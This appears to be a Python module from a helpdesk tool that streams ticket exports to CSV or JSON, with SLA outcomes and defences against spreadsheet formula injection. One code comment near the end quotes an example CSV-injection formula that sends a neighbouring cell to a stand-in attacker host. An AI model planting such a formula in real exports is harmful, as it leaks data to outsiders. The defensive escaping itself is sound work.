"""`mailgate tickets export`: one row per ticket with every field, as CSV or JSON, streamed.

Tickets are read a thousand at a time by id (keyset paging: no OFFSET that gets slower page by
page, no cursor held across batches), each batch with its status trail (for the SLA outcome) and,
with `with_messages`, its conversation; the batch is written and dropped before the next one, so
100k tickets export in the memory of one batch (bench/report_bench.py measures it).

The SLA outcome per target is the live clock's state at `now` (met, breached, running, paused),
from the same `sla_clock` the SLA jobs run, under the policy that matches the ticket now.
It must not write to the database or read the clock (callers pass `now`).
"""

from __future__ import annotations

import csv
import json
from collections import defaultdict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime
from typing import Any, TextIO

from sqlalchemy import Table, select
from sqlmodel import Session

from mailgate.domain.sla import SlaRules, policy_for, sla_clock
from mailgate.domain.workflow import Workflow
from mailgate.pipeline.sla_apply import TrailEvent, ticket_facts
from mailgate.reports.figures import Scope, status_trails
from mailgate.store.models import Event, Message, Ticket, utc
from mailgate.store.repo import Repo

__all__ = ["EXPORT_COLUMNS", "ExportFilter", "export_rows", "write_csv", "write_json"]

_TICKET: Table = Ticket.__table__  # type: ignore[attr-defined]
_EVENT: Table = Event.__table__  # type: ignore[attr-defined]
_MESSAGE: Table = Message.__table__  # type: ignore[attr-defined]
_T, _E, _M = _TICKET.c, _EVENT.c, _MESSAGE.c
BATCH = 1000

EXPORT_COLUMNS = (
    "key",
    "desk",
    "subject",
    "requester",
    "requester_name",
    "status",
    "status_category",
    "priority",
    "type",
    "category",
    "group",
    "assignee",
    "tags",
    "custom_fields",
    "created_at",
    "first_response_at",
    "resolved_at",
    "closed_at",
    "first_response_due",
    "resolution_due",
    "sla_policy",
    "sla_first_response",
    "sla_resolution",
    "rating",
    "rating_comment",
    "merged_into",
)


@dataclass(frozen=True)
class ExportFilter:
    """Which tickets: the scope of a report, created in [since, until) when given."""

    scope: Scope = Scope()
    since: datetime | None = None
    until: datetime | None = None


def _iso(value: datetime | None) -> str | None:
    value = utc(value)
    return value.isoformat() if value is not None else None


def export_rows(
    session: Session,
    *,
    workflows: Mapping[str, Workflow],
    sla: SlaRules | None,
    now: datetime,
    where: ExportFilter | None = None,
    with_messages: bool = False,
) -> Iterator[dict[str, Any]]:
    """Every matching ticket as a dict keyed by `EXPORT_COLUMNS` (plus "messages"), oldest first."""
    where = where or ExportFilter()
    conditions: list[Any] = where.scope.where()
    if where.since is not None:
        conditions.append(_T.created_at >= where.since)
    if where.until is not None:
        conditions.append(_T.created_at < where.until)
    repo = Repo(session)
    after = 0
    while True:
        stmt = select(Ticket).where(*conditions, _T.id > after).order_by(_T.id).limit(BATCH)
        tickets = list(session.execute(stmt).scalars())
        if not tickets:
            return
        ids = [t.id for t in tickets]
        trails = status_trails(session, ids)
        conversations: dict[int, list[dict[str, Any]]] = defaultdict(list)
        if with_messages:
            messages = (
                select(_M.ticket_id, _M.direction, _M.kind, _M.author, _M.subject, _M.reply_text, _M.text)
                .add_columns(_M.attachments, _M.created_at, _M.message_id)
                .where(_M.ticket_id.in_(ids))
                .order_by(_M.ticket_id, _M.id)
            )
            for (
                tid,
                direction,
                kind,
                author,
                subject,
                reply,
                text,
                attachments,
                created_at,
                mid,
            ) in session.execute(messages):
                conversations[tid].append(
                    {
                        "at": _iso(created_at),
                        "direction": direction,
                        "kind": kind,
                        "author": author,
                        "subject": subject,
                        "message_id": mid,
                        "text": reply or text,
                        "attachments": [
                            {k: a.get(k) for k in ("filename", "content_type", "size")}
                            for a in attachments or []
                            if "filename" in a
                        ],
                    }
                )
        for t in tickets:
            assert t.id is not None
            row = _row(repo, t, trails.get(t.id, []), workflows, sla, now)
            if with_messages:
                row["messages"] = conversations.get(t.id, [])
            yield row
        session.expunge_all()  # the batch is written: keep memory flat
        after = ids[-1]


def _row(
    repo: Repo,
    t: Ticket,
    trail: list[TrailEvent],
    workflows: Mapping[str, Workflow],
    sla: SlaRules | None,
    now: datetime,
) -> dict[str, Any]:
    policy_name = first = resolution = None
    workflow = workflows.get(t.desk)
    if sla is not None and workflow is not None:
        facts = ticket_facts(repo, t, workflow, sla, events=trail)
        policy = policy_for(sla, facts.match_fields())
        if policy is not None:
            clock = sla_clock(policy, facts.created_at, facts.intervals, facts.first_response_at, now)
            policy_name = policy.name
            first = clock.first_response.state if clock.first_response else None
            resolution = clock.resolution.state if clock.resolution else None
    return {
        "key": t.key,
        "desk": t.desk,
        "subject": t.subject,
        "requester": t.requester,
        "requester_name": t.requester_name,
        "status": t.status,
        "status_category": t.status_category,
        "priority": t.priority,
        "type": t.type,
        "category": t.category,
        "group": t.group,
        "assignee": t.assignee,
        "tags": list(t.tags or []),
        "custom_fields": dict(t.fields or {}),
        "created_at": _iso(t.created_at),
        "first_response_at": _iso(t.first_response_at),
        "resolved_at": _iso(t.resolved_at),
        "closed_at": _iso(t.closed_at),
        "first_response_due": _iso(t.first_response_due),
        "resolution_due": _iso(t.resolution_due),
        "sla_policy": policy_name,
        "sla_first_response": first,
        "sla_resolution": resolution,
        "rating": t.rating,
        "rating_comment": t.rating_comment,
        "merged_into": t.merged_into,
    }


# What a spreadsheet reads as a formula when a cell starts with it (CWE-1236, OWASP "CSV
# Injection"). A subject, a requester's name and a rating comment are what a stranger wrote:
# `=HYPERLINK("https://evil.example/?"&C3, "open")` would send the cell beside it away from the
# admin's spreadsheet with one click. Such a cell starts with a quote, which the spreadsheet
# shows as text; the JSON export keeps every value as written.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def write_csv(rows: Iterator[dict[str, Any]], out: TextIO) -> int:
    """One header row, one row per ticket: tags joined by ";", custom fields as a JSON object;
    a text cell a spreadsheet would run as a formula starts with a quote (`_FORMULA_START`)."""
    writer = csv.DictWriter(out, fieldnames=EXPORT_COLUMNS, lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    n = 0
    for row in rows:
        flat = dict(row)
        flat["tags"] = ";".join(row["tags"])
        flat["custom_fields"] = (
            json.dumps(row["custom_fields"], sort_keys=True) if row["custom_fields"] else ""
        )
        writer.writerow({k: _cell(v) for k, v in flat.items()})
        n += 1
    return n


def write_json(rows: Iterator[dict[str, Any]], out: TextIO) -> int:
    """A JSON array written as it goes, one ticket object per line."""
    n = 0
    out.write("[")
    for row in rows:
        out.write(",\n" if n else "\n")
        out.write(json.dumps(row, ensure_ascii=False, default=str))
        n += 1
    out.write("\n]\n" if n else "]\n")
    return n
